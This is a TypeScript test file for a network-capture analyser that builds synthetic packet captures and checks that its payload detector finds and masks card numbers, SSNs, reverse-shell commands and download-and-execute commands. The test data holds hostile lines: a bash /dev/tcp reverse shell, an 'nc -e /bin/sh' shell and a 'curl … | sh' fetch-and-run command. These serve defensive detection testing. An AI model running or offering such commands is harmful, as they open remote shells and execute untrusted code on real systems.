/**
 * Payload inspection end to end: synthetic captures through `extractCapture`, `netscry extract`
 * (payload.log) and `analyze` (the content detector), which must agree with analysing the logs
 * extract wrote; no unmasked sensitive value in any output.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { extractFiles } from '../../../src/coordinator/extract.js';
import { analyze } from '../../../src/coordinator/pipeline.js';
import type { Finding } from '../../../src/detect/finding.js';
import { extractCapture } from '../../../src/ingest/pcap/extract.js';
import { TcpFlag } from '../../../src/ingest/pcap/packet.js';
import { echoExchange } from '../../helpers/payload-captures.js';
import {
  buildPcap,
  concatBytes,
  EtherType,
  ethernet,
  icmp,
  ipv4,
  type PcapRecordSpec,
  tcp,
  udp,
} from '../../helpers/pcap.js';

const { Syn, Ack, Fin, Psh } = TcpFlag;
const enc = new TextEncoder();
const CARD = '4111111111111111';
const BAD_CARD = '4111111111111112';
const T0 = 1_700_000_000;

/** One TCP conversation: handshake, the messages in order (each one segment), FINs. */
function conversation(
  client: string,
  cport: number,
  server: string,
  sport: number,
  t0: number,
  messages: readonly (readonly [fromClient: boolean, bytes: Uint8Array])[],
): PcapRecordSpec[] {
  const out: PcapRecordSpec[] = [];
  let t = t0;
  let cseq = 1000;
  let sseq = 9000;
  const push = (fromClient: boolean, flags: number, payload?: Uint8Array): void => {
    const seg = tcp({
      srcPort: fromClient ? cport : sport,
      dstPort: fromClient ? sport : cport,
      seq: fromClient ? cseq : sseq,
      ack: fromClient ? sseq : cseq,
      flags,
      ...(payload ? { payload } : {}),
    });
    const ip = ipv4(fromClient ? { src: client, dst: server } : { src: server, dst: client }, seg);
    out.push({ ts: t, data: ethernet(EtherType.Ipv4, ip) });
    t += 0.01;
  };
  push(true, Syn);
  cseq++;
  push(false, Syn | Ack);
  sseq++;
  push(true, Ack);
  for (const [fromClient, bytes] of messages) {
    push(fromClient, Ack | Psh, bytes);
    if (fromClient) cseq += bytes.length;
    else sseq += bytes.length;
  }
  push(true, Fin | Ack);
  cseq++;
  push(false, Fin | Ack);
  sseq++;
  push(true, Ack);
  return out;
}

const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n';

/** A ClientHello's first bytes, then "encrypted" bytes that happen to hold a card number. */
function tlsLike(): Uint8Array {
  const rest = enc.encode(`${'\x01\x99\xfe'.repeat(20)} ${CARD} nc -e /bin/sh 1.2.3.4 4444 `);
  const body = new Uint8Array(4 + 2 + 32 + rest.length);
  body.set([1, 0, (body.length - 4) >> 8, (body.length - 4) & 0xff, 3, 3], 0);
  body.set(rest, 38);
  const rec = new Uint8Array(5 + body.length);
  rec.set([22, 3, 1, body.length >> 8, body.length & 0xff], 0);
  rec.set(body, 5);
  return rec;
}

function scenario(): Uint8Array {
  const c = '10.0.0.5';
  const records: PcapRecordSpec[] = [
    // An HTTP POST with a valid card number and one that fails Luhn.
    ...conversation(c, 40001, '198.51.100.7', 80, T0, [
      [
        true,
        enc.encode(
          `POST /checkout HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 42\r\n\r\ncc=${CARD}&old=${BAD_CARD}`,
        ),
      ],
      [false, enc.encode('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')],
    ]),
    // A raw reverse shell on 4444: the command split across two segments; the operator's commands.
    ...conversation(c, 40002, '203.0.113.9', 4444, T0 + 10, [
      [true, enc.encode(SHELL.slice(0, 17))],
      [true, enc.encode(SHELL.slice(17))],
      [false, enc.encode('id; curl -s http://203.0.113.9/s.sh | sh\n')],
    ]),
    // TLS: never inspected, whatever its bytes hold.
    ...conversation(c, 40003, '198.51.100.7', 443, T0 + 20, [
      [true, tlsLike()],
      [false, enc.encode(`\x16\x03\x03\x00\x30\x02 ${CARD} ${SHELL}`)],
    ]),
    // 200 bytes of filler, then a card number (bytes 201..216 of the stream).
    ...conversation(c, 40004, '198.51.100.8', 9000, T0 + 30, [
      [true, enc.encode(`${'x'.repeat(200)} ${CARD}\n`)],
    ]),
  ];
  // A UDP datagram on an unknown port carrying an SSN.
  records.push({
    ts: T0 + 40,
    data: ethernet(
      EtherType.Ipv4,
      ipv4(
        { src: c, dst: '198.51.100.9' },
        udp({ srcPort: 5000, dstPort: 7777, payload: enc.encode('ssn=512-34-6789\n') }),
      ),
    ),
  });
  // A card number sent in an ICMP echo request (hping3 -E), echoed back by the peer's kernel.
  echoExchange(
    { client: c, server: '198.51.100.10', t0: T0 + 50, count: 1, request: () => enc.encode(`card ${CARD}`) },
    records,
  );
  // An ICMP error quoting a datagram that held one: quoted bytes are not the sender's data.
  records.push({
    ts: T0 + 60,
    data: ethernet(
      EtherType.Ipv4,
      ipv4(
        { src: '198.51.100.11', dst: c },
        icmp(3, 3, concatBytes(new Uint8Array(4), enc.encode(`x ${CARD}`))),
      ),
    ),
  });
  return buildPcap(records);
}

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), 'netscry-payload-'));
  dirs.push(d);
  return d;
}

describe('payload inspection of a capture', () => {
  const bytes = scenario();

  it('logs card, shell and download matches of clear-text connections only, masked', () => {
    const { apps, conns } = extractCapture(bytes);
    const byPort = new Map(conns.map((r) => [r.respP, r.uid]));
    const rows = apps.payload.map((r) => [
      r.id.respP,
      r.rec.isOrig,
      r.rec.kind,
      r.rec.pattern,
      r.rec.value,
      r.rec.offset,
    ]);
    const post = `POST /checkout HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 42\r\n\r\ncc=`;
    expect(rows).toEqual([
      [80, true, 'card', 'card', '************1111', post.length],
      [4444, true, 'reverse-shell', 'dev-tcp', '/dev/tcp/203.0.113.9/4444', 11],
      [4444, false, 'download-exec', 'download-pipe-shell', 'curl -s http://203.0.113.9/s.sh | sh', 4],
      [9000, true, 'card', 'card', '************1111', 201],
      [7777, true, 'ssn', 'ssn', '*****6789', 4],
      [0, true, 'card', 'card', '************1111', 5],
      [0, false, 'card', 'card', '************1111', 5],
    ]);
    expect(apps.payload.filter((r) => r.id.proto === 'icmp')).toHaveLength(2);
    // The split command's time is that of its second segment.
    const shell = apps.payload.find((r) => r.rec.pattern === 'dev-tcp')!;
    expect(shell.id.uid).toBe(byPort.get(4444));
    expect(shell.ts).toBeCloseTo(T0 + 10 + 0.04, 6);
    // The TLS connection was recognised and nothing of it was matched.
    expect(conns.find((r) => r.respP === 443)?.service).toEqual(['ssl']);
  });

  it('reads the configured budget per direction, and nothing with 0', () => {
    const at = (payloadBytes: number) =>
      extractCapture(bytes, { payloadBytes }).apps.payload.filter((r) => r.id.respP === 9000).length;
    expect(at(217)).toBe(1); // the card's last byte is byte 217
    expect(at(216)).toBe(0);
    expect(extractCapture(bytes, { payloadBytes: 0 }).apps.payload).toEqual([]);
  });

  it('extract writes payload.log, and no output holds an unmasked value', async () => {
    const dir = tempDir();
    const capture = join(dir, 'in.pcap');
    writeFileSync(capture, bytes);
    const out = join(dir, 'logs');
    const summary = await extractFiles({ inputs: [capture], out });
    expect(summary.appRows.payload).toBe(7);
    const log = readFileSync(join(out, 'payload.log'), 'utf8');
    expect(log).toContain(
      '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tis_orig\tkind\tpattern\tvalue\tlength\toffset',
    );
    expect(log).toContain('\ttcp\tT\tcard\tcard\t************1111\t16\t');
    expect(log).toContain('\t8\t198.51.100.10\t0\ticmp\tF\tcard\tcard\t************1111\t16\t5\n');
    for (const name of readdirSync(out)) expect(readFileSync(join(out, name), 'utf8')).not.toContain(CARD);
    await expect(extractFiles({ inputs: [capture], out, payloadBytes: -1 })).rejects.toThrow(/payloadBytes/);
  });

  it('analysing the capture and the logs extract wrote give the same content findings', async () => {
    const dir = tempDir();
    const capture = join(dir, 'in.pcap');
    writeFileSync(capture, bytes);
    const out = join(dir, 'logs');
    await extractFiles({ inputs: [capture], out });
    const logs = readdirSync(out)
      .filter((n) => n !== 'weird.log')
      .map((n) => join(out, n));
    const content = (fs: readonly Finding[]) => fs.filter((f) => f.detector.startsWith('content.'));
    const fromCapture = content((await analyze({ inputs: [capture], actors: 0 })).findings);
    const fromLogs = content((await analyze({ inputs: logs, actors: 0 })).findings);
    expect(JSON.stringify(fromCapture)).toBe(JSON.stringify(fromLogs));
    const sharded = content((await analyze({ inputs: [capture], actors: 2, chunkBytes: 4096 })).findings);
    expect(JSON.stringify(sharded)).toBe(JSON.stringify(fromCapture));
    const summary = fromCapture.map((f) => [f.detector, f.attack, f.evidence.kind, f.evidence.directions]);
    expect(summary).toEqual(
      expect.arrayContaining([
        ['content.sensitive-data', 'T1048', 'card', ['orig']],
        ['content.sensitive-data', 'T1048', 'ssn', ['orig']],
        ['content.command', 'T1059', 'dev-tcp', ['orig']],
        ['content.command', 'T1105', 'download-pipe-shell', ['resp']],
      ]),
    );
    // The cards on ports 80 and 9000 and in the echo request go to three destinations.
    expect(fromCapture.length).toBe(6);
    expect(fromCapture.find((f) => f.entities.dst === '198.51.100.10')?.evidence).toMatchObject({
      kind: 'card',
      directions: ['orig', 'resp'],
    });
    const shell = fromCapture.find((f) => f.evidence.kind === 'dev-tcp')!;
    expect(shell.severity).toBe('high');
    expect(shell.evidence.fields).toEqual(['payload']);
    const dl = fromCapture.find((f) => f.evidence.kind === 'download-pipe-shell')!;
    expect(dl.summary).toContain(
      '10.0.0.5 received a download-pipe-shell command line (download-exec) from 203.0.113.9',
    );
    expect(JSON.stringify(fromCapture)).not.toContain(CARD);
    // Off: no payload findings.
    const off = content((await analyze({ inputs: [capture], actors: 0, payloadBytes: 0 })).findings);
    expect(off).toEqual([]);
  });
});
